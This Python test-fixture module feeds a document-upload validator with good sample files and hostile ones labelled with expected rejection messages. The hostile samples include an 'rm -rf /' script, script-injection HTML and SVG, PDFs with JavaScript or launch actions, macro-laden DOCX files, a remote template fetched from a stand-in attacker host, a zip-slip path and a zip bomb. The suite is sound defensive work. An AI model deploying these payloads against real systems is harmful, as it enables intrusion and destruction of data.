"""Files somebody might hand in: good ones of each format, and hostile ones with what is said of them."""

import io
import zipfile
from collections.abc import Callable

from cases.enums import FileFormat
from cases.rules import file_format as told

TYPE = '<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
TYPES = f"<Types>{TYPE}</Types>".encode()
WORD = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>"}
OPEN = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"}
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"% filling\n" * 20 + b"trailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(150) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(150) + b"\xff\xd9"


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive with these members."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


GOOD = {
    FileFormat.PDF: PDF,
    FileFormat.DOCX: zipped(WORD),
    FileFormat.ODT: zipped(OPEN),
    FileFormat.JPG: JPG,
    FileFormat.PNG: PNG,
    FileFormat.TXT: "Eén regel tekst.\r\n".encode(),
}
REMOTE = (
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://kwaad.example/x.dotm" TargetMode="External"/>'
)


def _locked() -> bytes:
    """A zip whose members say that they are encrypted."""
    raw = bytearray(zipped(WORD))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def _bomb() -> bytes:
    return zipped({**WORD, "word/media/a.bmp": bytes(60 * 1024 * 1024)})


def _changed_inside() -> bytes:
    raw = bytearray(zipped({**WORD, "word/a.xml": b"klopt dit nog?" * 20}, zipfile.ZIP_STORED))
    raw[raw.find(b"klopt dit")] ^= 1
    return bytes(raw)


BAD: dict[str, Callable[[], tuple[bytes, str]]] = {
    "empty": lambda: (b"", "Dit bestand is leeg"),
    "only spaces": lambda: (b"  \n ", "Dit bestand is leeg"),
    "program": lambda: (b"MZ\x90\x00" + bytes(100), told.NOT_ALLOWED),
    "linux program": lambda: (b"\x7fELF" + bytes(100), told.NOT_ALLOWED),
    "web page": lambda: (b"<html><script>alert(1)</script></html>", told.NOT_ALLOWED),
    "web page after a mark": lambda: (b"\xef\xbb\xbf \n<svg onload=x>", told.NOT_ALLOWED),
    "rich text": lambda: (b"{\\rtf1 hallo}", told.NOT_ALLOWED),
    "script": lambda: (b"#!/bin/sh\nrm -rf /\n", told.NOT_ALLOWED),
    "gif": lambda: (b"GIF89a\x01\x00\x01\x00" + bytes(20), told.NOT_ALLOWED),
    "old word": lambda: (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Dit is een oud Office-bestand"),
    "pdf with a script": lambda: (PDF.replace(b"/Catalog", b"/JavaScript"), told.MACROS),
    "pdf that starts a program": lambda: (PDF.replace(b"/Catalog", b"/Launch"), told.MACROS),
    "pdf with a script in numbers": lambda: (PDF.replace(b"/Catalog", b"/J#61vaScript"), told.MACROS),
    "pdf that acts by itself": lambda: (
        PDF.replace(b"/Catalog", b"/Catalog /AA << /O 1 0 R >>"),
        told.ACTIVE,
    ),
    "pdf with a file in it": lambda: (PDF.replace(b"/Catalog", b"/EmbeddedFile"), told.ACTIVE),
    "pdf that sends a form": lambda: (PDF.replace(b"/Catalog", b"/Submit#46orm"), told.ACTIVE),
    "half a pdf": lambda: (PDF.replace(b"%%EOF", b""), told.DAMAGED),
    "half a png": lambda: (PNG[:100], told.DAMAGED),
    "half a photo": lambda: (JPG[:100], told.DAMAGED),
    "half a docx": lambda: (zipped(WORD)[:-30], told.DAMAGED),
    "docx changed inside": lambda: (_changed_inside(), told.DAMAGED),
    "docx with macros": lambda: (zipped({**WORD, "word/vbaProject.bin": b"x"}), told.MACROS),
    "docx that says macros": lambda: (
        zipped(
            {
                **WORD,
                "[Content_Types].xml": TYPES.replace(b"document.main", b"document.macro&#69;nabled.main"),
            }
        ),
        told.MACROS,
    ),
    "docx with an object": lambda: (zipped({**WORD, "word/embeddings/oleObject1.bin": b"x"}), told.MACROS),
    "docx with a program": lambda: (zipped({**WORD, "word/media/plaatje.exe": b"MZ"}), told.MACROS),
    "docx with a zip": lambda: (zipped({**WORD, "word/media/nog-een.zip": b"PK"}), told.MACROS),
    "docx that fetches a template": lambda: (
        zipped({**WORD, "word/_rels/settings.xml.rels": REMOTE}),
        told.REMOTE,
    ),
    "docx that hides what it fetches": lambda: (
        zipped({**WORD, "word/_rels/settings.xml.rels": REMOTE.replace(b'"External', b'"&#69;xternal')}),
        told.REMOTE,
    ),
    "docx that fetches in other letters": lambda: (
        zipped({**WORD, "word/_rels/settings.xml.rels": REMOTE.decode().encode("utf-16")}),
        told.REMOTE,
    ),
    "docx that fetches what is called a link": lambda: (
        zipped({**WORD, "word/_rels/settings.xml.rels": REMOTE.replace(b"/x.dotm", b"/hyperlink/x.dotm")}),
        told.REMOTE,
    ),
    "docx with words of its own": lambda: (
        zipped({**WORD, "word/_rels/a.xml.rels": b'<!DOCTYPE r [<!ENTITY a "External">]><r/>'}),
        told.DAMAGED,
    ),
    "docx that climbs": lambda: (zipped({**WORD, "../../etc/cron.d/x": b"x"}), told.DAMAGED),
    "docx with a password": lambda: (_locked(), told.LOCKED),
    "odt with macros": lambda: (zipped({**OPEN, "Basic/Standard/Module1.xml": b"x"}), told.MACROS),
    "odt that runs something": lambda: (
        zipped({**OPEN, "content.xml": b"<script:event-listener/>"}),
        told.MACROS,
    ),
    "spreadsheet": lambda: (zipped({"[Content_Types].xml": b"x", "xl/workbook.xml": b"x"}), told.NOT_ALLOWED),
    "plain zip": lambda: (zipped({"geheim.txt": b"x"}), told.NOT_ALLOWED),
    "bomb": lambda: (_bomb(), told.BOMB),
    "too many members": lambda: (
        zipped({**WORD, **{f"word/media/{number}.png": b"" for number in range(2001)}}),
        told.BOMB,
    ),
}
